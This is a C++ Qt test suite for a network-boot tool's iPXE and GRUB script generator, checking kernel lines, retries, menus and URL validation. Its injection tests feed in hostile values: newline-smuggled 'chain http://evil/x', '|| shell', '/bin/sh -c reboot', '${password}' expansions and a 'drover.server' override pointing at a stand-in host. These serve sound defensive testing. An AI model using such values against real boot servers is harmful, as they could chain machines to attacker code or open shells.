// The iPXE scripts: what a boot script loads and passes, that the chain script asks with
// iPXE's own variables, and that no catalog value can inject a command, a variable expansion
// or one of Drover's own arguments.
#include "boot/bootdecision.h"
#include "boot/grubscript.h"
#include "boot/ipxescript.h"

#include <QRegularExpression>
#include <QTest>

using namespace drover;

namespace {

BootScriptInput sampleInput()
{
    BootScriptInput in;
    in.serverUrl = QStringLiteral("http://10.0.0.1:8080");
    in.mac = QStringLiteral("52:54:00:12:34:56");
    in.machine = QStringLiteral("pc-01");
    in.image = QStringLiteral("debian:12.1");
    in.manifest = Digest::fromHex(QString(64, QLatin1Char('a')));
    in.kernel = BlobRef { Digest::fromHex(QString(64, QLatin1Char('b'))), 100 };
    in.initrd = BlobRef { Digest::fromHex(QString(64, QLatin1Char('c'))), 200 };
    in.imageArgs = QStringLiteral("quiet loglevel=3");
    in.groupArgs = QStringLiteral("console=ttyS0,115200n8");
    in.machineArgs = QStringLiteral("drover.debug=1");
    in.bootId = QStringLiteral("0123456789abcdef");
    in.token = QStringLiteral("0123456789abcdef0123456789abcdef");
    return in;
}

QStringList lines(const QByteArray &script)
{
    return QString::fromLatin1(script).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
}

QString kernelLine(const QByteArray &script)
{
    for (const QString &line : lines(script)) {
        if (line.startsWith(QLatin1String("kernel ")))
            return line;
    }
    return {};
}

// The commands a boot script may hold, whatever the catalog says.
const QStringList kAllowedCommands = { QStringLiteral("#!ipxe"), QStringLiteral("#"), QStringLiteral("echo"),
    QStringLiteral("set"), QStringLiteral(":drover_fetch"), QStringLiteral("inc"), QStringLiteral("kernel"),
    QStringLiteral("initrd"), QStringLiteral("boot"), QStringLiteral(":drover_retry"), QStringLiteral("iseq"),
    QStringLiteral("sleep"), QStringLiteral("goto"), QStringLiteral(":drover_again"), QStringLiteral("chain") };

} // namespace

class TstDecisionScript : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void bootScript()
    {
        const RenderedScript r = renderBootScript(sampleInput());
        QVERIFY2(r.warnings.isEmpty(), qPrintable(r.warnings.join(QLatin1Char('\n'))));
        QVERIFY(r.text.startsWith("#!ipxe\n"));
        const QString kernel = kernelLine(r.text);
        QCOMPARE(kernel,
            QStringLiteral("kernel --name kernel.img http://10.0.0.1:8080/blobs/sha256:%1 initrd=initrd.img quiet "
                           "loglevel=3 console=ttyS0,115200n8 drover.debug=1 drover.server=http://10.0.0.1:8080 "
                           "drover.manifest=sha256:%2 drover.mac=52:54:00:12:34:56 drover.boot=0123456789abcdef "
                           "drover.token=0123456789abcdef0123456789abcdef || goto drover_retry")
                .arg(QString(64, QLatin1Char('b')), QString(64, QLatin1Char('a'))));
        QVERIFY(r.text.contains(QByteArray("initrd --name initrd.img http://10.0.0.1:8080/blobs/sha256:"
            + QByteArray(64, 'c') + " || goto drover_retry\n")));
        QVERIFY(r.text.contains("\nboot || goto drover_retry\n"));
        // Retries: a counted loop with a pause, then the server is asked again.
        QVERIFY(r.text.contains("inc drover_tries\n"));
        QVERIFY(r.text.contains("iseq ${drover_tries} 5 && goto drover_again ||\n"));
        QVERIFY(r.text.contains("\nsleep 5\ngoto drover_fetch\n"));
        QVERIFY(r.text.contains("chain --replace --autofree http://10.0.0.1:8080/boot.ipxe || reboot\n"));
        QCOMPARE(r.kernelArgs.count(QLatin1String("drover.server=")), 1);
        QVERIFY(!r.text.contains("\nsleep 5\nset drover_tries")); // no backoff asked for
    }

    void backoff_data()
    {
        QTest::addColumn<int>("failures");
        QTest::addColumn<int>("seconds");
        QTest::newRow("first fallback try") << 2 << 30;
        QTest::newRow("doubles") << 3 << 60;
        QTest::newRow("doubles again") << 4 << 120;
        QTest::newRow("capped at 10 min") << 9 << 600;
        QTest::newRow("no overflow") << 1000 << 600;
    }

    void backoff()
    {
        QFETCH(int, failures);
        QFETCH(int, seconds);
        QCOMPARE(bootBackoffSeconds(failures), seconds);
        BootScriptInput in = sampleInput();
        in.delaySeconds = bootBackoffSeconds(failures);
        const RenderedScript r = renderBootScript(in);
        // The wait comes before anything is downloaded.
        const QByteArray sleep = QByteArray("\nsleep ") + QByteArray::number(seconds) + '\n';
        const qsizetype sleepAt = r.text.indexOf(sleep);
        QVERIFY(sleepAt > 0);
        QVERIFY(sleepAt < r.text.indexOf("kernel --name"));
    }

    void injection_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("kept"); // what of it survives, space separated
        auto rows = [](const char *field) {
            const QString f = QLatin1String(field);
            auto name = [&](const char *what) { return qPrintable(f + QLatin1Char('/') + QLatin1String(what)); };
            QTest::newRow(name("newline command"))
                << f << "quiet\nchain http://evil/x\n:drover_fetch" << "quiet chain http://evil/x :drover_fetch";
            QTest::newRow(name("carriage return")) << f << "quiet\r\nreboot" << "quiet reboot";
            QTest::newRow(name("variable expansion")) << f << "a=${password} b=${net0/ip}" << "";
            QTest::newRow(name("or operator")) << f << "quiet || shell" << "quiet shell";
            QTest::newRow(name("and operator")) << f << "x=1&&reboot" << "";
            QTest::newRow(name("double quotes")) << f << "init=\"/bin/sh -c reboot\"" << "";
            QTest::newRow(name("single quote")) << f << "a='b' c=d" << "c=d";
            QTest::newRow(name("comment")) << f << "quiet #rest" << "quiet";
            QTest::newRow(name("semicolon")) << f << "a;reboot" << "";
            QTest::newRow(name("backslash")) << f << "a\\ b" << "b";
            QTest::newRow(name("reserved drover.server")) << f << "drover.server=http://evil:1" << "";
            QTest::newRow(name("reserved drover.token")) << f << "drover.token=00" << "";
            QTest::newRow(name("reserved initrd")) << f << "initrd=evil.img quiet" << "quiet";
            QTest::newRow(name("option-like")) << f << "--name x -- init=/bin/sh" << "x init=/bin/sh";
            QTest::newRow(name("non-ascii")) << f << QStringLiteral("hostname=münchen quiet") << "quiet";
            QTest::newRow(name("nul and bell"))
                << f
                << QStringLiteral("aXb cYd e=f").replace(QLatin1Char('X'), QChar(0)).replace(QLatin1Char('Y'), QChar(7))
                << "e=f";
            QTest::newRow(name("own args allowed"))
                << f << "drover.debug=1 console=tty0" << "drover.debug=1 console=tty0";
        };
        rows("image");
        rows("group");
        rows("machine");
    }

    void injection()
    {
        QFETCH(QString, field);
        QFETCH(QString, value);
        QFETCH(QString, kept);
        BootScriptInput in = sampleInput();
        in.imageArgs.clear();
        in.groupArgs.clear();
        in.machineArgs.clear();
        (field == QLatin1String("image")          ? in.imageArgs
                : field == QLatin1String("group") ? in.groupArgs
                                                  : in.machineArgs)
            = value;
        const RenderedScript r = renderBootScript(in);

        // The catalog's part of the command line is exactly what is safe of it.
        const QString expected = QString(QStringLiteral("initrd=initrd.img ") + kept).simplified();
        QVERIFY2(r.kernelArgs.startsWith(expected + QLatin1String(" drover.server=")), qPrintable(r.kernelArgs));
        QCOMPARE(r.kernelArgs.count(QLatin1String("drover.server=")), 1);
        QCOMPARE(r.kernelArgs.count(QLatin1String("drover.token=")), 1);
        QCOMPARE(r.kernelArgs.count(QLatin1String("initrd=")), 1);
        if (kept.split(QLatin1Char(' '), Qt::SkipEmptyParts).size()
            != value.split(QRegularExpression(QStringLiteral("\\s+")), Qt::SkipEmptyParts).size())
            QVERIFY(!r.warnings.isEmpty());

        // Whatever the value, the script's structure is the same: the same commands, one
        // kernel line without '$', quotes or extra operators.
        const QStringList all = lines(r.text);
        QCOMPARE(all.size(), lines(renderBootScript(sampleInput()).text).size());
        for (const QString &line : all) {
            const QString command = line.section(QLatin1Char(' '), 0, 0);
            QVERIFY2(kAllowedCommands.contains(command), qPrintable(line));
        }
        const QString kernel = kernelLine(r.text);
        QVERIFY(!kernel.contains(QLatin1Char('$')));
        QVERIFY(!kernel.contains(QLatin1Char('"')));
        QVERIFY(!kernel.contains(QLatin1Char('\'')));
        QCOMPARE(kernel.count(QLatin1String("||")), 1);
        QVERIFY(!kernel.contains(QLatin1String("&&")));
        QVERIFY(!kernel.contains(QLatin1Char('#')));
        QVERIFY(!r.text.contains('\r'));
        for (char c : r.text)
            QVERIFY(c == '\n' || (c >= 0x20 && c < 0x7f));
    }

    void textFields_data()
    {
        QTest::addColumn<QString>("text");
        QTest::newRow("newline") << "pc-01\nchain http://evil/";
        QTest::newRow("variable") << "${password}";
        QTest::newRow("operators") << "x || reboot && y";
        QTest::newRow("comment") << "a # b";
        QTest::newRow("quotes") << "\"a\" 'b'";
        QTest::newRow("accents") << QStringLiteral("Übung Straße");
        QTest::newRow("long") << QString(5000, QLatin1Char('x'));
    }

    void textFields()
    {
        QFETCH(QString, text);
        BootScriptInput in = sampleInput();
        in.machine = text;
        in.image = text;
        in.note = text;
        const QByteArray boot = renderBootScript(in).text;
        const QByteArray wait = renderWaitScript(QStringLiteral("http://10.0.0.1:8080"), text);
        const QByteArray exit = renderExitScript(text);
        QCOMPARE(lines(boot).size(), lines(renderBootScript(sampleInput()).text).size() + 1); // the note's echo
        QCOMPARE(lines(wait).size(), 5);
        QCOMPARE(lines(exit).size(), 3);
        for (const QByteArray &script : { boot, wait, exit }) {
            for (const QString &line : lines(script)) {
                if (line.startsWith(QLatin1String("echo ")) || line.startsWith(QLatin1String("# "))) {
                    QVERIFY2(!line.contains(QLatin1Char('$')), qPrintable(line));
                    QVERIFY2(!line.contains(QLatin1String("||")), qPrintable(line));
                    QVERIFY2(!line.contains(QLatin1String("&&")), qPrintable(line));
                    QVERIFY2(!line.mid(1).contains(QLatin1Char('#')), qPrintable(line));
                    QVERIFY2(line.size() < 300, qPrintable(line));
                }
            }
            for (char c : script)
                QVERIFY(c == '\n' || (c >= 0x20 && c < 0x7f));
        }
        QVERIFY(exit.endsWith("\nexit\n"));
        if (text.startsWith(QLatin1String("Übung")))
            QVERIFY(exit.contains("Ubung Strae") || exit.contains("Ubung Stra?e"));
    }

    // The boot targets, for iPXE and for GRUB: what each runs, on which firmware, and that a
    // machine name cannot add a command to either.
    void targetScripts_data()
    {
        QTest::addColumn<QString>("key");
        QTest::addColumn<QString>("machine");
        QTest::addColumn<QByteArrayList>("ipxe"); // lines the iPXE script holds
        QTest::addColumn<QByteArrayList>("grub"); // … and GRUB's
        QTest::newRow("local disk") << "local-disk" << "pc-01"
                                    << QByteArrayList { "echo Drover: pc-01 boots from its local disk\n",
                                           "iseq ${platform} pcbios && sanboot --no-describe --drive 0x80 ||\n",
                                           "exit 1\n" }
                                    << QByteArrayList { "search --no-floppy --file --set=root /EFI/BOOT/BOOTX64.EFI",
                                           "chainloader /EFI/BOOT/BOOTX64.EFI\n", "exit 1\n" };
        QTest::newRow("memtest")
            << "memtest" << "pc-01"
            << QByteArrayList { "kernel http://10.0.0.1:8080/memtest86+x64.bin console=ttyS0,115200 || goto failed\n",
                   "chain http://10.0.0.1:8080/memtest86+x64.efi console=ttyS0,115200 || goto failed\n",
                   "chain --replace --autofree http://10.0.0.1:8080/boot.ipxe || reboot\n" }
            << QByteArrayList { "chainloader (http,10.0.0.1:8080)/memtest86+x64.efi console=ttyS0,115200\n", "boot\n",
                   "it is not signed" };
        QTest::newRow("iso") << "iso:rescue" << "pc-01"
                             << QByteArrayList { "echo Drover: pc-01 boots the ISO rescue\n",
                                    "sanboot --no-describe http://10.0.0.1:8080/blobs/sha256:" + QByteArray(64, 'a')
                                        + " || goto failed\n",
                                    "chain --replace --autofree http://10.0.0.1:8080/boot.ipxe || reboot\n" }
                             << QByteArrayList { "loopback drover_iso (http,10.0.0.1:8080)/blobs/sha256:"
                                        + QByteArray(64, 'a') + "\n",
                                    "if [ -f (drover_iso)/boot/grub/loopback.cfg ]; then\n  set root=(drover_iso)\n",
                                    "  export iso_path\n  configfile /boot/grub/loopback.cfg\n",
                                    "loopback -d drover_iso\n" };
        QTest::newRow("a name that tries to inject") << "local-disk" << "pc-01 || shell ${x}\nreboot"
                                                     << QByteArrayList { "exit 1\n" } << QByteArrayList { "exit 1\n" };
    }

    void targetScripts()
    {
        QFETCH(QString, key);
        QFETCH(QString, machine);
        QFETCH(QByteArrayList, ipxe);
        QFETCH(QByteArrayList, grub);
        const auto target = BootTarget::fromKey(key);
        QVERIFY(target);
        const QString iso = QStringLiteral("sha256:") + QString(64, QLatin1Char('a'));
        const QByteArray i = renderTargetScript(QStringLiteral("http://10.0.0.1:8080"), machine, *target, iso);
        const QByteArray g = renderGrubTargetScript(QStringLiteral("(http,10.0.0.1:8080)"), machine, *target, iso);
        QVERIFY(i.startsWith("#!ipxe\n"));
        for (const QByteArray &l : std::as_const(ipxe))
            QVERIFY2(i.contains(l), i.constData());
        for (const QByteArray &l : std::as_const(grub))
            QVERIFY2(g.contains(l), g.constData());
        // The name reaches each script on its echo line only, and adds no command.
        for (const QByteArray &script : { i, g }) {
            QVERIFY2(!script.contains("${x}") && !script.contains("\nreboot\n"), script.constData());
            for (const QByteArray &l : script.split('\n')) {
                if (l.contains("shell"))
                    QVERIFY2(l.startsWith("echo "), l.constData());
            }
        }
    }

    // The menu, for iPXE and GRUB: every entry, the first as default after the timeout, the
    // choice sent back by key; a label from the catalog adds no command.
    void menuScripts()
    {
        const QList<MenuEntry> entries { { QStringLiteral("image"), QStringLiteral("os:2"),
                                             QStringLiteral("os:2 || shell ${x}") },
            { QStringLiteral("local-disk"), QStringLiteral("@local-disk"), QStringLiteral("Local disk") } };
        const QByteArray i
            = renderMenuScript(QStringLiteral("http://10.0.0.1:8080"), QStringLiteral("pc-01"), entries, 7);
        QVERIFY2(i.contains("\nmenu Drover: pc-01 - choose what to boot\n"), i.constData());
        QVERIFY2(i.contains("\nitem --key 2 local-disk 2. Local disk\n"), i.constData());
        QVERIFY2(i.contains("\nchoose --timeout 7000 --default image drover_choice || set drover_choice image\n"),
            i.constData());
        QVERIFY2(i.contains("&choice=${drover_choice} || goto drover_failed\n"), i.constData());
        const QByteArray g = renderGrubMenuScript(
            QStringLiteral("(http,10.0.0.1:8080)"), QStringLiteral("52:54:00:12:34:56"), entries, 7);
        QVERIFY2(g.startsWith("set timeout=7\nset default=0\n"), g.constData());
        QVERIFY2(g.contains("menuentry 'Local disk' {\n  source (http,10.0.0.1:8080)/boot/52:54:00:12:34:56.grub"
                            "?choice=local-disk\n}\n"),
            g.constData());
        QCOMPARE(renderGrubMenuLauncher(QStringLiteral("(http,10.0.0.1:8080)"), QStringLiteral("52:54:00:12:34:56")),
            QByteArray("configfile (http,10.0.0.1:8080)/boot/52:54:00:12:34:56.grub?show=menu\n"));
        for (const QByteArray &script : { i, g }) {
            QVERIFY2(!script.contains("${x}"), script.constData());
            for (const QByteArray &l : script.split('\n')) {
                if (l.contains("shell"))
                    QVERIFY2(l.startsWith("item ") || l.startsWith("menuentry '"), l.constData());
            }
        }
        // No entries: nothing to choose, the machine waits and asks again.
        QVERIFY(renderMenuScript(QStringLiteral("http://10.0.0.1:8080"), QStringLiteral("pc-01"), {}, 7)
                .contains("asking the server again"));
    }

    void chainScript()
    {
        const QByteArray s = renderChainScript(QStringLiteral("http://192.168.1.5:8080"));
        QVERIFY(s.startsWith("#!ipxe\n"));
        QVERIFY(
            s.contains("chain --replace --autofree http://192.168.1.5:8080/boot/${mac:hexhyp}.ipxe?uuid=${uuid}"
                       "&arch=${buildarch}&platform=${platform}&serial=${serial:uristring} || goto drover_failed\n"));
    }

    void serverUrls_data()
    {
        QTest::addColumn<QString>("url");
        QTest::addColumn<bool>("valid");
        QTest::newRow("ipv4 and port") << "http://10.0.2.2:8080" << true;
        QTest::newRow("hostname") << "http://drover.lab" << true;
        QTest::newRow("ipv6") << "http://[fe80::1]:8080" << true;
        QTest::newRow("path") << "http://10.0.0.1:8080/x" << false;
        QTest::newRow("variable") << "http://${ip}:8080" << false;
        QTest::newRow("space") << "http://a b" << false;
        QTest::newRow("https") << "https://10.0.0.1" << false;
        QTest::newRow("newline") << "http://a\nreboot" << false;
        // PCRE's '$' also matches before a final newline; found by fuzz_script.
        QTest::newRow("trailing newline") << "http://10.0.0.1:8080\n" << false;
    }

    void serverUrls()
    {
        QFETCH(QString, url);
        QFETCH(bool, valid);
        QCOMPARE(sanitizeServerUrl(url), valid ? url : QString());
    }
};

QTEST_GUILESS_MAIN(TstDecisionScript)
#include "tst_decision_script.moc"
